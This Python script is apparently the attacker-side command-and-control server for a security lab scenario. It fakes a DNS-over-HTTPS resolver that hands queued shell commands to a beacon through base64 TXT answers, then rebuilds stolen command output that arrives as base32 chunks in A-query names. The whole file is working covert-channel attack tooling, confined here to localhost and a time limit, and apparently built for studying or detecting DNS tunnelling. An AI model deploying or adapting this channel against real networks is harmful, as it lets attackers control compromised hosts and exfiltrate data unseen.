#!/usr/bin/env python3
"""The attacker's "DNS over HTTPS" resolver of scenario-berthplan-rules (runs as
labremote on 127.0.0.1): GET /dns-query?name=&type= answered in the JSON form
of the public resolvers (application/dns-json). A TXT query for
p<n>.<beacon>.t.<domain> gets the next queued task (DIR/q/NNN.txt, base64 in
the TXT data) or NXDOMAIN; A queries for <chunk>.<i>.<n>.<beacon>.o.<domain>
carry the task's output (base32 without padding, 60 characters a label), and
end.<n>.<beacon>.o.<domain> closes it: DIR/out/NNN.txt. Everything is logged
to DIR/session.log."""
import argparse, base64, json, os, ssl, sys, time, urllib.parse
from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler

ap = argparse.ArgumentParser()
ap.add_argument("--port", type=int, default=8453)
ap.add_argument("--dir", required=True)
ap.add_argument("--cert", required=True)
ap.add_argument("--key", required=True)
ap.add_argument("--max-seconds", type=int, default=900)
a = ap.parse_args()
Q, OUT = os.path.join(a.dir, "q"), os.path.join(a.dir, "out")
os.makedirs(Q, exist_ok=True); os.makedirs(OUT, exist_ok=True)
served, poll_task, chunks, seen = set(), {}, {}, set()
LOG = open(os.path.join(a.dir, "session.log"), "a", buffering=1)


def log(msg):
    LOG.write("%s %s\n" % (time.strftime("%H:%M:%S"), msg))


class H(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def answer(self, name, typ, data=None):
        body = {"Status": 0 if data is not None else 3, "TC": False, "RD": True, "RA": True,
                "Question": [{"name": name, "type": typ}]}
        if data is not None:
            body["Answer"] = [{"name": name, "type": typ, "TTL": 30, "data": data}]
        b = json.dumps(body, separators=(",", ":")).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/dns-json")
        self.send_header("Content-Length", str(len(b)))
        self.end_headers()
        self.wfile.write(b)

    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        p = urllib.parse.parse_qs(u.query)
        name = p.get("name", [""])[0]
        typ = 16 if p.get("type", ["A"])[0] == "TXT" else 1
        labels = name.split(".")
        if u.path != "/dns-query" or len(labels) < 4:
            return self.answer(name, typ)
        if labels[-3] == "t":  # a poll
            if labels[1] not in seen:
                seen.add(labels[1])
                log("first poll from beacon %s (%s)" % (labels[1], labels[0]))
            todo = sorted(f for f in os.listdir(Q) if f.endswith(".txt") and f not in served)
            if todo:
                f = todo[0]
                served.add(f)
                cmd = open(os.path.join(Q, f)).read().strip()
                poll_task[labels[0][1:]] = f[:-4]
                log("task %s -> beacon %s (poll %s): %s" % (f[:-4], labels[1], labels[0], cmd))
                return self.answer(name, typ, base64.b64encode(cmd.encode()).decode())
            return self.answer(name, typ)
        if labels[-3] == "o":  # output
            if labels[0] == "end":
                t = labels[1]
                s = "".join(c for _, c in sorted(chunks.pop(t, [])))
                s += "=" * (-len(s) % 8)
                try:
                    data = base64.b32decode(s.upper())
                except Exception as e:
                    data = ("(undecodable: %s)" % e).encode()
                n = poll_task.get(t, "poll" + t)
                open(os.path.join(OUT, n + ".txt"), "wb").write(data)
                log("output of task %s: %d bytes in %d query names" % (n, len(data), len(s) // 60 + 1))
            else:
                chunks.setdefault(labels[2], []).append((int(labels[1]), labels[0]))
            return self.answer(name, typ, "127.0.0.2")
        return self.answer(name, typ)


ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(a.cert, a.key)
srv = ThreadingHTTPServer(("127.0.0.1", a.port), H)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
srv.timeout = 1
log("resolver listening on 127.0.0.1:%d" % a.port)
end = time.time() + a.max_seconds
while time.time() < end and not os.path.exists(os.path.join(a.dir, "stop")):
    srv.handle_request()
log("resolver stopped")
